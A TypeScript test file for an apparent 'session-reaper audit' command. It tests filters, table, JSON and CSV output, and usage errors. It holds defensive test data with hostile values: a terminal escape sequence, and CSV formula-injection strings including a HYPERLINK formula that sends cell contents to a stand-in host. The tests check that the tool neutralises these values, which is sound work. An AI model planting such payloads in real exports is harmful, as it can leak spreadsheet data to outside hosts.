/**
 * `session-reaper audit` over a JSON-lines file: every filter, alone and combined, against a small
 * hand-written history (test/support/audit-history.ts, built with the reaper's event builder) whose
 * expected results can be read off its table; and the three outputs: the aligned table, JSON lines
 * and RFC 4180 CSV.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { PassThrough } from 'node:stream';
import { auditCommand } from '../src/cli/audit.ts';
import { StreamingTable, WIDTH_SAMPLE } from '../src/review/output/table.ts';
import { ChunkedWriter } from '../src/review/output/write.ts';
import { parseAuditText } from '../src/review/parse.ts';
import { toRow } from '../src/review/row.ts';
import { validateAuditDetail } from '../src/pass/audit/schema.ts';
import { historyEvents, historyJsonLines, passEvents, S } from './support/audit-history.ts';
import { capture } from './support/capture.ts';

// "Now" for durations: one day after the first real pass of the history.
const NOW = Date.parse('2024-05-02T10:00:00.000Z');

let dir: string;
let file: string;
let lines: string[];

before(() => {
  // Prepare: the history as the file sink would have written it.
  dir = mkdtempSync(join(tmpdir(), 'audit-review-file-'));
  file = join(dir, 'audit.jsonl');
  const text = historyJsonLines();
  writeFileSync(file, text);
  lines = text.trimEnd().split('\n');
});

after(() => rmSync(dir, { recursive: true, force: true }));

const audit = (args: string[]) => capture((io) => auditCommand(args, io), { now: () => NOW });

/** The envelope ids of the events `audit --json` prints for these arguments. */
async function idsFor(...args: string[]): Promise<string[]> {
  const out = await audit(['--file', file, '--json', ...args]);
  assert.equal(out.code, 0, out.stderr);
  return out.stdout.trimEnd().split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { id: string }).id);
}

const evts = (...n: number[]): string[] => n.map((i) => `evt-${i}`);
const range = (from: number, to: number): string[] => evts(...Array.from({ length: to - from + 1 }, (_, i) => from + i));

describe('the hand-written history', () => {
  it('is valid under the published schema, event by event', () => {
    // Assess: the fixture is what the reaper could emit, or the filter results below mean nothing.
    for (const event of historyEvents()) assert.deepEqual(validateAuditDetail(event.detail), [], event.detailType);
    assert.equal(lines.length, 13);
  });
});

describe('filters', () => {
  it('no filter lists every event, in file order', async () => {
    assert.deepEqual(await idsFor(), range(1, 13));
  });

  it('--since as a duration counts back from now', async () => {
    // 24h before 2024-05-02T10:00Z: the dry run at 09:00 the day before is out, the 10:00 pass in.
    assert.deepEqual(await idsFor('--since', '24h'), range(4, 13));
    assert.deepEqual(await idsFor('--since', '30m'), evts(12, 13));
  });

  it('--since and --until take ISO dates and times; since is inclusive, until exclusive', async () => {
    assert.deepEqual(await idsFor('--since', '2024-05-02'), range(8, 13));
    assert.deepEqual(await idsFor('--until', '2024-05-02'), range(1, 7));
    // The two kills at 10:00:01.500 are in; the failure at exactly 08:00:02 the next day is not.
    assert.deepEqual(await idsFor('--since', '2024-05-01T10:00:01.500Z', '--until', '2024-05-02T08:00:02Z'), range(5, 7));
    assert.deepEqual(await idsFor('--since', '2024-05-01T12:00:00+02:00', '--until', '2024-05-01T13:00:00+02:00'), range(4, 7));
  });

  it('--cluster, repeated for alternatives', async () => {
    assert.deepEqual(await idsFor('--cluster', 'prod-us'), range(8, 11));
    assert.deepEqual(await idsFor('--cluster', 'prod-us', '--cluster', 'prod-eu'), range(1, 13));
    assert.deepEqual(await idsFor('--cluster', 'prod'), []);
  });

  it('--user keeps that user\'s decisions (run summaries and sessionless operations have no user)', async () => {
    assert.deepEqual(await idsFor('--user', 'alice@admin'), evts(1, 5));
    assert.deepEqual(await idsFor('--user', 'dave@admin'), evts(8, 9));
    assert.deepEqual(await idsFor('--user', 'alice@admin', '--user', 'bob@admin'), evts(1, 5, 6));
  });

  it('--app matches the whole application name, commas and quotes included', async () => {
    assert.deepEqual(await idsFor('--app', 'analytics, "BI" team'), evts(2, 12));
    assert.deepEqual(await idsFor('--app', 'analytics'), []);
  });

  it('--rule', async () => {
    assert.deepEqual(await idsFor('--rule', 'runaway-operation'), evts(6, 8, 9, 10));
    assert.deepEqual(await idsFor('--rule', 'atlas-agents-and-backup'), evts(4));
  });

  it('--session takes the full id or its leading characters', async () => {
    assert.deepEqual(await idsFor('--session', S.aliceTxn.id), evts(1, 5));
    assert.deepEqual(await idsFor('--session', '11111111'), evts(1, 5));
    assert.deepEqual(await idsFor('--session', S.daveB.id.toUpperCase()), evts(9));
    assert.deepEqual(await idsFor('--session', '55555555'), evts(8, 9));
  });

  it('--outcome, repeated or comma-separated', async () => {
    assert.deepEqual(await idsFor('--outcome', 'killed'), evts(5, 6, 9, 10));
    assert.deepEqual(await idsFor('--outcome', 'killed', '--outcome', 'failed'), evts(5, 6, 8, 9, 10));
    assert.deepEqual(await idsFor('--outcome', 'failed,planned'), evts(1, 2, 8));
    assert.deepEqual(await idsFor('--outcome', 'skipped'), evts(4, 12));
  });

  it('--trigger matches the type, the name, or TYPE:NAME', async () => {
    assert.deepEqual(await idsFor('--trigger', 'schedule'), [...range(4, 7), ...evts(12, 13)]);
    assert.deepEqual(await idsFor('--trigger', 'cpu-high'), range(8, 11));
    assert.deepEqual(await idsFor('--trigger', 'alarm:cpu-high'), range(8, 11));
    assert.deepEqual(await idsFor('--trigger', 'alarm:other'), []);
    assert.deepEqual(await idsFor('--trigger', 'manual'), range(1, 3));
  });

  it('--run takes the full run id or its leading characters, and includes the run summary', async () => {
    assert.deepEqual(await idsFor('--run', 'run-eu-0002-2222'), range(4, 7));
    assert.deepEqual(await idsFor('--run', 'run-eu'), [...range(4, 7), ...evts(12, 13)]);
  });

  it('different filters must all match', async () => {
    assert.deepEqual(await idsFor('--cluster', 'prod-eu', '--outcome', 'skipped'), evts(4, 12));
    assert.deepEqual(await idsFor('--user', 'alice@admin', '--outcome', 'planned'), evts(1));
    assert.deepEqual(await idsFor('--since', '2024-05-02', '--trigger', 'schedule', '--cluster', 'prod-eu'), evts(12, 13));
    assert.deepEqual(await idsFor('--user', 'alice@admin', '--cluster', 'prod-us'), []);
  });

  it('says what it read and matched on stderr', async () => {
    const out = await audit(['--file', file, '--outcome', 'killed']);
    assert.equal(out.code, 0);
    assert.match(out.stderr, /13 lines read, 13 audit events, 4 matched, no problems/);
  });
});

describe('outputs', () => {
  it('--json writes each matching envelope unchanged, one per line, and reads back the same', async () => {
    // Act
    const first = await audit(['--file', file, '--json', '--cluster', 'prod-eu']);
    const again = join(dir, 'again.jsonl');
    writeFileSync(again, first.stdout);
    const second = await audit(['--file', again, '--json']);
    // Assess
    const expected = lines.filter((l) => JSON.parse(l).detail.cluster === 'prod-eu');
    assert.deepEqual(first.stdout.trimEnd().split('\n').map((l) => JSON.parse(l)), expected.map((l) => JSON.parse(l)));
    assert.equal(second.stdout, first.stdout);
  });

  it('the table is aligned: every column starts where its header does', async () => {
    // Act
    const out = await audit(['--file', file]);
    // Assess
    const [header, rule, ...rows] = out.stdout.trimEnd().split('\n');
    assert.equal(rows.length, 13);
    assert.match(rule!, /^-+( {2}-+)+$/);
    const starts = [...header!.matchAll(/\S+/g)].map((m) => m.index);
    for (const row of rows) {
      for (const start of starts.slice(1)) assert.equal(row[start! - 2], ' ', `column boundary at ${start} in: ${row}`);
    }
    const outcomeAt = header!.indexOf('OUTCOME');
    assert.deepEqual(rows.map((r) => r.slice(outcomeAt).split(' ')[0]), [
      'planned', 'planned', 'run', 'skipped', 'killed', 'killed', 'run', 'failed', 'killed', 'killed', 'run', 'skipped', 'run',
    ]);
    assert.match(rows.find((r) => r.includes('shard1:123')) ?? '', /op shard1:123/);
  });

  it('the table shows nothing a terminal would interpret: control characters become "?"', async () => {
    // Prepare: an application name carrying an escape sequence, as a hostile client could set it.
    const events = passEvents({
      runId: 'run-esc', cluster: 'c', trigger: { type: 'cli' }, dryRun: false, startedAt: '2024-05-01T00:00:00Z', finishedAt: '2024-05-01T00:00:01Z',
      decisions: [{ at: '2024-05-01T00:00:00.5Z', session: { ...S.bobQuery, appName: 'evil\u001b[2J\u0007app' }, rule: 'runaway-operation', outcome: 'killed' }],
    });
    const path = join(dir, 'escape.jsonl');
    writeFileSync(path, historyJsonLines(events));
    // Act
    const table = await audit(['--file', path]);
    const csv = await audit(['--file', path, '--csv']);
    // Assess
    assert.doesNotMatch(table.stdout, /[\u001b\u0007]/);
    assert.match(table.stdout, /evil\?\[2J\?app/);
    assert.match(csv.stdout, /evil\u001b\[2J\u0007app/, 'CSV carries the data unchanged');
  });

  it('--csv neutralises values a spreadsheet would run as formulas with a leading single quote (OWASP)', async () => {
    // Prepare: application and user names a hostile client could choose.
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1'];
    const events = passEvents({
      runId: 'run-csv', cluster: 'c', trigger: { type: 'cli' }, dryRun: false, startedAt: '2024-05-01T00:00:00Z', finishedAt: '2024-05-01T00:00:01Z',
      decisions: hostile.map((appName, i) => ({ at: `2024-05-01T00:00:00.${i}Z`, session: { ...S.bobQuery, appName }, rule: 'runaway-operation', outcome: 'killed' as const })),
    });
    const path = join(dir, 'formula.jsonl');
    writeFileSync(path, historyJsonLines(events));
    // Act
    const out = await audit(['--file', path, '--csv', '--outcome', 'killed']);
    // Assess
    assert.equal(out.code, 0, out.stderr);
    const records = parseCsv(out.stdout);
    const app = records[0]!.indexOf('app');
    assert.deepEqual(records.slice(1).map((r) => r[app]), hostile.map((name) => `'${name}`));
    const unchanged = parseCsv((await audit(['--file', file, '--csv'])).stdout).slice(1).map((r) => r[app]);
    assert.ok(unchanged.every((name) => !name!.startsWith("'")), 'ordinary names are not touched');
  });

  it('--csv is RFC 4180: header, CRLF, quoted commas, doubled quotes, line breaks inside quotes', async () => {
    // Act
    const out = await audit(['--file', file, '--csv']);
    // Assess
    assert.equal(out.code, 0);
    const records = parseCsv(out.stdout);
    assert.equal(records.length, 14);
    const header = records[0]!;
    assert.deepEqual(header.slice(0, 4), ['time', 'detail_type', 'outcome', 'dry_run']);
    const col = (name: string): number => header.indexOf(name);
    const carol = records.find((r) => r[col('event_id')] === 'evt-12')!;
    assert.equal(carol[col('app')], 'analytics, "BI" team');
    assert.equal(carol[col('note')], 'report-only: 1 kill would exceed --max-kill-share 0.1, with "quotes", commas\nand a line break');
    const killedOp = records.find((r) => r[col('event_id')] === 'evt-10')!;
    assert.equal(killedOp[col('opid')], 'shard1:123');
    assert.equal(killedOp[col('outcome')], 'killed');
    assert.deepEqual(JSON.parse(killedOp[col('facts')]!), { longestOpSeconds: 900 });
    assert.ok(out.stdout.endsWith('\r\n'));
    assert.doesNotMatch(out.stdout.replace(/"(?:[^"]|"")*"/g, ''), /[^\r]\n/, 'every record ends with CRLF outside quoted fields');
  });

  it('the table writes rows out once its widths are set, not at the end', async () => {
    // Prepare: a table over a stream, one row past the sample that sets the widths.
    const sink = new PassThrough();
    let written = '';
    sink.on('data', (d) => (written += d));
    const writer = new ChunkedWriter(sink);
    const table = new StreamingTable(writer);
    const row = toRow(parseAuditText(lines[4]!, 'line 5').record!);
    // Act
    for (let i = 0; i <= WIDTH_SAMPLE; i++) await table.add(row);
    await writer.flush();
    // Assess: header, rule and every row so far, before end() was called.
    assert.equal(written.split('\n').length - 1, 2 + WIDTH_SAMPLE + 1);
    await table.end();
  });

  it('no match prints an empty table and exits 0', async () => {
    const out = await audit(['--file', file, '--user', 'nobody']);
    assert.equal(out.code, 0);
    assert.equal(out.stdout, '(no events matched)\n');
  });
});

describe('usage', () => {
  const usageError = async (args: string[], message: RegExp) => {
    const out = await audit(args);
    assert.equal(out.code, 2, out.stderr);
    assert.match(out.stderr, message);
    assert.equal(out.stdout, '');
  };

  it('needs exactly one source', async () => {
    await usageError([], /--file PATH .* or --log-group NAME/);
    await usageError(['--file', 'a', '--log-group', 'g'], /not both/);
  });

  it('rejects unknown outcomes, unreadable times and an empty window', async () => {
    await usageError(['--file', 'a', '--outcome', 'murdered'], /--outcome "murdered" is not an outcome/);
    await usageError(['--file', 'a', '--since', 'yesterday'], /--since "yesterday" is neither a duration/);
    await usageError(['--file', 'a', '--since', '2024-05-01T12:00'], /with its offset/);
    await usageError(['--file', 'a', '--since', '1h', '--until', '2h'], /--since must be before --until/);
  });

  it('rejects unknown options and stray arguments', async () => {
    await usageError(['--file', 'a', '--colour'], /Unknown option '--colour'/);
    await usageError(['list', '--file', 'a'], /unknown audit command "list"/);
    await usageError(['--file', 'a', '--json', '--csv'], /--json or --csv/);
  });

  it('a missing file is a read failure (exit 1), named', async () => {
    const out = await audit(['--file', join(dir, 'absent.jsonl')]);
    assert.equal(out.code, 1);
    assert.match(out.stderr, /no such file: .*absent\.jsonl/);
  });

  it('the installed command routes `audit` here and reads standard input with --file -', () => {
    // Act: the real entry point, as a user runs it.
    const bin = join(import.meta.dirname, '..', 'bin', 'session-reaper.mjs');
    const result = spawnSync(process.execPath, [bin, 'audit', '--file', '-', '--outcome', 'failed', '--json'], { input: historyJsonLines(), encoding: 'utf8' });
    // Assess
    assert.equal(result.status, 0, result.stderr);
    assert.deepEqual(result.stdout.trimEnd().split('\n').map((l) => JSON.parse(l).id), ['evt-8']);
    assert.match(result.stderr, /13 lines read, 13 audit events, 1 matched/);
  });
});

/** A strict RFC 4180 reader: CRLF between records, quoted fields may hold anything. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"', (i += 2));
      else if (c === '"') (quoted = false, i++);
      else (field += c, i++);
    } else if (c === '"' && field === '') (quoted = true, i++);
    else if (c === ',') (record.push(field), (field = ''), i++);
    else if (c === '\r' && text[i + 1] === '\n') (record.push(field), records.push(record), (record = []), (field = ''), (i += 2));
    else if (c === '"' || c === '\n' || c === '\r') throw new Error(`bare ${JSON.stringify(c)} at ${i}`);
    else (field += c, i++);
  }
  if (field !== '' || record.length) throw new Error('last record not terminated by CRLF');
  return records;
}
